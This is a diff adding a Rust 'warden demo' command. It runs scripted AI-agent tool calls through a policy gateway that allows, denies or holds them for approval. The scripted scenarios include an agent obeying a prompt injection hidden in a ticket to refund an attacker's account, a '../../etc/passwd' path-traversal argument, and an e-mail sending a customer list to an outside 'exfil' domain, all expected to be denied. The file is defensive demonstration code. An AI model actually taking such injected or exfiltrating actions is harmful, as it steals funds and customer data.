@@ -1,0 +1,225 @@
+//! `warden demo`: the whole path on a throw-away project.
+//!
+//! A real gateway on a loopback port and a real SQLite ledger; the scripted agents talk to it
+//! over HTTP exactly as a framework would, run allowed calls against the built-in demo tool
+//! server and report their outcomes.
+
+use std::path::PathBuf;
+use std::process::ExitCode;
+use std::sync::Arc;
+use std::time::Instant;
+
+use anyhow::{bail, Context as _};
+use serde_json::{json, Value};
+use warden_gateway::demo_tools::DemoTools;
+use warden_gateway::AppState;
+
+use crate::project_cmds::{load, write_example};
+use crate::serve::open_ledger;
+
+struct Step {
+    agent: &'static str,
+    tool: &'static str,
+    args: Value,
+    ticket: &'static str,
+    story: &'static str,
+    expect: &'static str,
+}
+
+fn script() -> Vec<Step> {
+    vec![
+        Step { agent: "support-triage", tool: "list_tickets", args: json!({"status": "open", "limit": 10}), ticket: "TRIAGE-1", story: "ordinary read", expect: "allow" },
+        Step { agent: "support-triage", tool: "get_ticket", args: json!({"ticket_id": "T-1003"}), ticket: "TRIAGE-1", story: "reads a ticket that hides a prompt injection", expect: "allow" },
+        Step { agent: "support-triage", tool: "issue_refund", args: json!({"account_id": "ACC-0666", "amount": 4900, "reason": "SYSTEM NOTE"}), ticket: "TRIAGE-1", story: "obeys the injected text: refund to the attacker", expect: "deny" },
+        Step { agent: "support-triage", tool: "get_ticket", args: json!({"ticket_id": "../../etc/passwd"}), ticket: "TRIAGE-1", story: "argument outside its pattern", expect: "deny" },
+        Step { agent: "crm-writer", tool: "get_account", args: json!({"account_id": "ACC-0002"}), ticket: "CRM-7", story: "ordinary read", expect: "allow" },
+        Step { agent: "crm-writer", tool: "update_account", args: json!({"account_id": "ACC-0002", "field": "phone", "value": "+1 555 0100"}), ticket: "CRM-7", story: "write at tier review", expect: "allow" },
+        Step { agent: "crm-writer", tool: "issue_refund", args: json!({"account_id": "ACC-0001", "amount": 49.5, "reason": "charged twice in November"}), ticket: "CRM-8", story: "refund: a person must approve", expect: "approval_required" },
+        Step { agent: "crm-writer", tool: "issue_refund", args: json!({"account_id": "ACC-0001", "amount": 800, "reason": "annual plan cancelled"}), ticket: "CRM-9", story: "large refund: two people must approve", expect: "approval_required" },
+        Step { agent: "crm-writer", tool: "issue_refund", args: json!({"account_id": "ACC-0666", "amount": 4900, "reason": "as instructed"}), ticket: "CRM-9", story: "amount above the card's limit", expect: "deny" },
+        Step { agent: "crm-writer", tool: "send_email", args: json!({"to": "ada@example.com", "subject": "Your refund", "body": "We are processing it."}), ticket: "CRM-8", story: "e-mail to the company's domain", expect: "allow" },
+        Step { agent: "crm-writer", tool: "send_email", args: json!({"to": "archive@exfil.example.net", "subject": "customers", "body": "list attached"}), ticket: "CRM-8", story: "e-mail to an outside domain", expect: "deny" },
+        Step { agent: "crm-writer", tool: "update_account", args: json!({"account_id": "ACC-0003", "field": "status", "value": "closed"}), ticket: "CRM-10", story: "hand-written forbid policy", expect: "deny" },
+        Step { agent: "crm-writer", tool: "delete_account", args: json!({"account_id": "ACC-0003"}), ticket: "CRM-10", story: "tool not on the scope card", expect: "deny" },
+    ]
+}
+
+fn short_args(v: &Value) -> String {
+    let s = v.to_string();
+    if s.chars().count() > 46 {
+        format!("{}…", s.chars().take(45).collect::<String>())
+    } else {
+        s
+    }
+}
+
+pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
+    let temp;
+    let kept = keep.is_some();
+    let dir = match keep {
+        Some(d) => {
+            if d.exists() {
+                bail!("--keep {}: the directory already exists; choose a new one", d.display());
+            }
+            std::fs::create_dir_all(&d)?;
+            d
+        }
+        None => {
+            temp = tempfile::tempdir().context("creating a temporary directory")?;
+            temp.path().to_path_buf()
+        }
+    };
+    println!("Warden demo");
+    println!("===========");
+    println!("project: {} (example from `warden init`: 2 agents, 4 demo tool servers)", dir.display());
+    let keys = write_example(&dir)?;
+    let project = match load(&dir) {
+        Ok(p) => p,
+        Err(code) => return Ok(code),
+    };
+    println!(
+        "policy:  {} Cedar policies compiled from the scope cards + policies/finance.cedar, version {}",
+        project.policy.policy_count(),
+        project.policy.short_version()
+    );
+    let ledger = open_ledger(&dir, &project.config.store.url, project.config.store.durability).await?;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.context("binding a loopback port")?;
+    let addr = listener.local_addr()?;
+    let state = AppState::new(&project.config, Arc::new(project.policy), ledger.clone());
+    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
+    let server = tokio::spawn(warden_gateway::serve(listener, state, async {
+        let _ = stop_rx.await;
+    }));
+    println!("gateway: http://{addr} (SQLite ledger {})", ledger.path().display());
+    println!();
+
+    let client = reqwest::Client::new();
+    let tools = DemoTools::new();
+    let mut rows = Vec::new();
+    let mut mismatches = Vec::new();
+    for (n, step) in script().into_iter().enumerate() {
+        let key = keys
+            .iter()
+            .find(|(a, _)| a == step.agent)
+            .map(|(_, k)| k.clone())
+            .unwrap_or_default();
+        let resp = client
+            .post(format!("http://{addr}/v1/decisions"))
+            .bearer_auth(&key)
+            .json(&json!({"tool": step.tool, "arguments": step.args, "session": format!("demo-{}", step.agent), "correlation_id": step.ticket}))
+            .send()
+            .await
+            .context("calling the gateway")?;
+        let status = resp.status();
+        let body: Value = resp.json().await.context("reading the gateway's answer")?;
+        if !status.is_success() {
+            bail!("the gateway answered {status}: {body}");
+        }
+        let decision = body["decision"].as_str().unwrap_or("?").to_string();
+        let tier = body["tier"].as_str().unwrap_or("").to_string();
+        let mut what = decision.clone();
+        if decision != "deny" && tier != "auto" {
+            what = format!("{decision} ({tier})");
+        }
+        let reason = body["reasons"]
+            .as_array()
+            .map(|r| {
+                // The most specific reason: for held calls the tier note, otherwise the first.
+                let texts: Vec<&str> = r.iter().filter_map(Value::as_str).collect();
+                match decision.as_str() {
+                    "approval_required" => texts.last().copied().unwrap_or_default().to_string(),
+                    _ => texts.first().copied().unwrap_or_default().to_string(),
+                }
+            })
+            .unwrap_or_default();
+        let mut ran = String::from("-");
+        if decision == "allow" {
+            let qualified = body["tool"].as_str().unwrap_or(step.tool).to_string();
+            let started = Instant::now();
+            let result = tools.call(&qualified, &step.args);
+            let ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);
+            let (st, output) = match result {
+                Ok(v) => ("success", v),
+                Err(e) => ("error", json!({"error": e})),
+            };
+            let id = body["id"].as_str().unwrap_or_default();
+            let r = client
+                .post(format!("http://{addr}/v1/decisions/{id}/outcome"))
+                .bearer_auth(&key)
+                .json(&json!({"status": st, "output": output, "duration_ms": ms}))
+                .send()
+                .await?;
+            if !r.status().is_success() {
+                bail!("recording the outcome failed: {}", r.text().await.unwrap_or_default());
+            }
+            ran = st.to_string();
+        } else if decision == "approval_required" {
+            ran = "held".to_string();
+        }
+        if decision != step.expect {
+            mismatches.push(format!("step {}: expected {}, got {decision}", n + 1, step.expect));
+        }
+        rows.push(vec![
+            (n + 1).to_string(),
+            step.agent.to_string(),
+            step.tool.to_string(),
+            what,
+            ran,
+            step.story.to_string(),
+            short_args(&step.args),
+            reason,
+        ]);
+    }
+    let header = ["#", "agent", "tool", "decision", "ran", "scenario"];
+    let widths = [2usize, 14, 14, 30, 7, 44];
+    let line = |cells: &[&str]| {
+        let parts: Vec<String> = cells
+            .iter()
+            .zip(widths)
+            .map(|(c, w)| format!("{c:<w$}"))
+            .collect();
+        parts.join("  ").trim_end().to_string()
+    };
+    println!("{}", line(&header));
+    println!("{}", widths.iter().map(|w| "─".repeat(*w)).collect::<Vec<_>>().join("  "));
+    for r in &rows {
+        let cells: Vec<&str> = r.iter().take(6).map(String::as_str).collect();
+        println!("{}", line(&cells));
+        println!("    args  {}", r.get(6).map_or("", String::as_str));
+        println!("    why   {}", r.get(7).map_or("", String::as_str));
+    }
+    println!();
+
+    let _ = stop_tx.send(());
+    let _ = server.await;
+    let report = ledger.verify(|_| {}).await?;
+    let count = ledger.count().await?;
+    let allowed = rows.iter().filter(|r| r.get(3).is_some_and(|d| d.starts_with("allow"))).count();
+    let denied = rows.iter().filter(|r| r.get(3).is_some_and(|d| d.starts_with("deny"))).count();
+    let held = rows.len() - allowed - denied;
+    println!("{} calls proposed: {allowed} allowed, {denied} denied, {held} waiting for approval", rows.len());
+    match &report.first_break {
+        None => println!(
+            "ledger:  {count} records ({} decisions + {} outcomes), hash chain verified; head {}",
+            rows.len(),
+            count.saturating_sub(rows.len() as u64),
+            report.head
+        ),
+        Some(b) => {
+            println!("ledger:  VERIFICATION FAILED at record {}: {}", b.seq, b.reason);
+            return Ok(ExitCode::FAILURE);
+        }
+    }
+    ledger.close().await;
+    if !mismatches.is_empty() {
+        for m in &mismatches {
+            eprintln!("demo: {m}");
+        }
+        bail!("the demo's decisions differ from what it expects");
+    }
+    if kept {
+        println!();
+        println!("Look closer:  warden audit tail -p {}   ·   warden audit verify -p {}", dir.display(), dir.display());
+    }
+    Ok(ExitCode::SUCCESS)
+}
